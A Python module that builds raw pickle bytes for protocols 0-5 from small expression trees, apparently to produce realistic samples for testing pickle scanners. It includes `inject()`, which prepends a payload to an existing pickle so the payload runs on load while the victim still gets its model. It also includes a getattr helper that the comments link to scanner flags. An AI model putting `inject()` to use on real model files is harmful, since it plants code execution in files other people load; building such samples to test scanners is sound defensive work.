"""Pickle bytes assembled opcode by opcode, for any protocol 0-5.

Payloads are described as small expression trees (Global, Call, Memo, Ref, Seq, Raw and plain
Python constants) and emitted as raw opcodes. Nothing here ever imports or calls the callables a
payload names: building a sample only concatenates bytes. The opcodes chosen for each protocol
are the ones CPython's own pickler would write at that protocol, so samples look like real files.
"""
import struct
from dataclasses import dataclass
from typing import Any, Tuple


@dataclass(frozen=True)
class Global:
    """A module attribute, pushed with GLOBAL (protocols 0-3) or STACK_GLOBAL (4+)."""
    module: str
    name: str


@dataclass(frozen=True)
class StackGlobal:
    """STACK_GLOBAL over arbitrary expressions for module and name (e.g. memo references)."""
    module: Any
    name: Any


@dataclass(frozen=True)
class Call:
    """func(*args), emitted as func, args tuple, REDUCE."""
    func: Any
    args: Tuple = ()


@dataclass(frozen=True)
class Inst:
    """func(*args) through the protocol-0 INST opcode: MARK args INST module\\nname\\n."""
    module: str
    name: str
    args: Tuple = ()


@dataclass(frozen=True)
class Memo:
    """Evaluate value, store it in the memo under key, leave it on the stack."""
    key: str
    value: Any


@dataclass(frozen=True)
class Ref:
    """A value memoized earlier with Memo(key, ...)."""
    key: str


class Seq:
    """Evaluate each expression in turn; all but the last are popped (side effects only)."""

    def __init__(self, *exprs):
        self.exprs = exprs


@dataclass(frozen=True)
class Raw:
    """Opcodes written verbatim: for hand-crafted tricks the tree cannot express."""
    data: bytes


def attr(obj, name):
    """getattr(obj, name): how pickles reach methods (builtins.getattr is what scanners flag)."""
    return Call(Global("builtins", "getattr"), (obj, name))


class _Emitter:
    def __init__(self, protocol, stack_global=None):
        if not 0 <= protocol <= 5:
            raise ValueError(f"protocol {protocol}")
        self.protocol = protocol
        self.stack_global = protocol >= 4 if stack_global is None else stack_global
        self.out = bytearray()
        self.memo = {}

    # --- scalars -------------------------------------------------------------------------
    def _str(self, s):
        p = self.protocol
        if p == 0:
            # The escaping CPython's pickler applies before raw-unicode-escape.
            esc = (s.replace("\\", "\\u005c").replace("\0", "\\u0000").replace("\n", "\\u000a")
                   .replace("\r", "\\u000d").replace("\x1a", "\\u001a"))
            self.out += b"V" + esc.encode("raw-unicode-escape") + b"\n"
            return
        data = s.encode("utf-8", "surrogatepass")
        if p >= 4 and len(data) < 256:
            self.out += b"\x8c" + bytes([len(data)]) + data
        else:
            self.out += b"X" + struct.pack("<I", len(data)) + data

    def _bytes(self, b):
        if self.protocol < 3:
            raise ValueError("bytes need protocol 3 or later")
        if len(b) < 256:
            self.out += b"C" + bytes([len(b)]) + b
        else:
            self.out += b"B" + struct.pack("<I", len(b)) + b

    def _int(self, n):
        p = self.protocol
        if p == 0:
            self.out += b"I%d\n" % n
        elif 0 <= n < 256:
            self.out += b"K" + bytes([n])
        elif 0 <= n < 65536:
            self.out += b"M" + struct.pack("<H", n)
        elif -2**31 <= n < 2**31:
            self.out += b"J" + struct.pack("<i", n)
        elif p >= 2:
            data = n.to_bytes((n.bit_length() + 8) // 8, "little", signed=True)
            self.out += b"\x8a" + bytes([len(data)]) + data
        else:
            self.out += b"L%dL\n" % n

    def _bool(self, b):
        if self.protocol >= 2:
            self.out += b"\x88" if b else b"\x89"
        else:
            self.out += b"I01\n" if b else b"I00\n"

    def _float(self, x):
        if self.protocol == 0:
            self.out += b"F" + repr(x).encode() + b"\n"
        else:
            self.out += b"G" + struct.pack(">d", x)

    # --- containers ----------------------------------------------------------------------
    def _tuple(self, items):
        p = self.protocol
        if not items and p >= 1:
            self.out += b")"
            return
        if p >= 2 and len(items) <= 3:
            for item in items:
                self.emit(item)
            self.out += {1: b"\x85", 2: b"\x86", 3: b"\x87"}[len(items)]
            return
        self.out += b"("
        for item in items:
            self.emit(item)
        self.out += b"t"

    def _list(self, items):
        if self.protocol == 0:
            self.out += b"("
            for item in items:
                self.emit(item)
            self.out += b"l"
            return
        self.out += b"]"
        if items:
            self.out += b"("
            for item in items:
                self.emit(item)
            self.out += b"e"

    def _dict(self, d):
        if self.protocol == 0:
            self.out += b"("
        else:
            self.out += b"}"
            if d:
                self.out += b"("
        for k, v in d.items():
            self.emit(k)
            self.emit(v)
        if self.protocol == 0:
            self.out += b"d"
        elif d:
            self.out += b"u"

    # --- calls and memo ------------------------------------------------------------------
    def _global(self, g):
        if self.stack_global:
            self._str(g.module)
            self._str(g.name)
            self.out += b"\x93"
        else:
            self.out += b"c" + g.module.encode() + b"\n" + g.name.encode() + b"\n"

    def _put(self, key):
        if key in self.memo:
            raise ValueError(f"memo key {key!r} used twice")
        idx = len(self.memo)
        self.memo[key] = idx
        p = self.protocol
        if p >= 4:
            self.out += b"\x94"  # MEMOIZE: the index is implicitly len(memo)
        elif p == 0:
            self.out += b"p%d\n" % idx
        elif idx < 256:
            self.out += b"q" + bytes([idx])
        else:
            self.out += b"r" + struct.pack("<I", idx)

    def _get(self, key):
        idx = self.memo[key]
        if self.protocol == 0:
            self.out += b"g%d\n" % idx
        elif idx < 256:
            self.out += b"h" + bytes([idx])
        else:
            self.out += b"j" + struct.pack("<I", idx)

    def emit(self, e):
        if isinstance(e, Raw):
            self.out += e.data
        elif isinstance(e, Global):
            self._global(e)
        elif isinstance(e, StackGlobal):
            if self.protocol < 4:
                raise ValueError("STACK_GLOBAL needs protocol 4 or later")
            self.emit(e.module)
            self.emit(e.name)
            self.out += b"\x93"
        elif isinstance(e, Call):
            self.emit(e.func)
            self._tuple(tuple(e.args))
            self.out += b"R"
        elif isinstance(e, Inst):
            self.out += b"("
            for a in e.args:
                self.emit(a)
            self.out += b"i" + e.module.encode() + b"\n" + e.name.encode() + b"\n"
        elif isinstance(e, Memo):
            self.emit(e.value)
            self._put(e.key)
        elif isinstance(e, Ref):
            self._get(e.key)
        elif isinstance(e, Seq):
            for i, sub in enumerate(e.exprs):
                self.emit(sub)
                if i < len(e.exprs) - 1:
                    self.out += b"0"  # POP
        elif e is None:
            self.out += b"N"
        elif isinstance(e, bool):
            self._bool(e)
        elif isinstance(e, int):
            self._int(e)
        elif isinstance(e, float):
            self._float(e)
        elif isinstance(e, str):
            self._str(e)
        elif isinstance(e, (bytes, bytearray)):
            self._bytes(bytes(e))
        elif isinstance(e, tuple):
            self._tuple(e)
        elif isinstance(e, list):
            self._list(e)
        elif isinstance(e, dict):
            self._dict(e)
        else:
            raise TypeError(f"cannot emit {type(e).__name__}")


def assemble(expr, protocol, stack_global=None, stop=True):
    """The pickle (PROTO, one FRAME at protocol 4+, body, STOP) that evaluates expr."""
    em = _Emitter(protocol, stack_global)
    em.emit(expr)
    body = bytes(em.out) + (b"." if stop else b"")
    head = b"\x80" + bytes([protocol]) if protocol >= 2 else b""
    if protocol >= 4:
        head += b"\x95" + struct.pack("<Q", len(body))
    return head + body


def body(expr, protocol, stack_global=None):
    """Opcodes of expr alone (no PROTO, no FRAME, no STOP): for splicing into other pickles."""
    em = _Emitter(protocol, stack_global)
    em.emit(expr)
    return bytes(em.out)


def protocol_of(data):
    """The protocol an existing pickle declares (0 or 1 when it has no PROTO opcode)."""
    return data[1] if data[:1] == b"\x80" else 0


def inject(pickle_bytes, payload):
    """A copy of an existing pickle that first evaluates payload, discards it, then loads as
    before: the trojan shape (the victim still gets its model). The payload must not use the
    memo, since the original's memo indices (and MEMOIZE's implicit ones) must stay valid."""
    proto = protocol_of(pickle_bytes)
    split = 2 if pickle_bytes[:1] == b"\x80" else 0
    em = _Emitter(proto)
    em.emit(payload)
    if em.memo:
        raise ValueError("an injected payload must not use the memo")
    return pickle_bytes[:split] + bytes(em.out) + b"0" + pickle_bytes[split:]
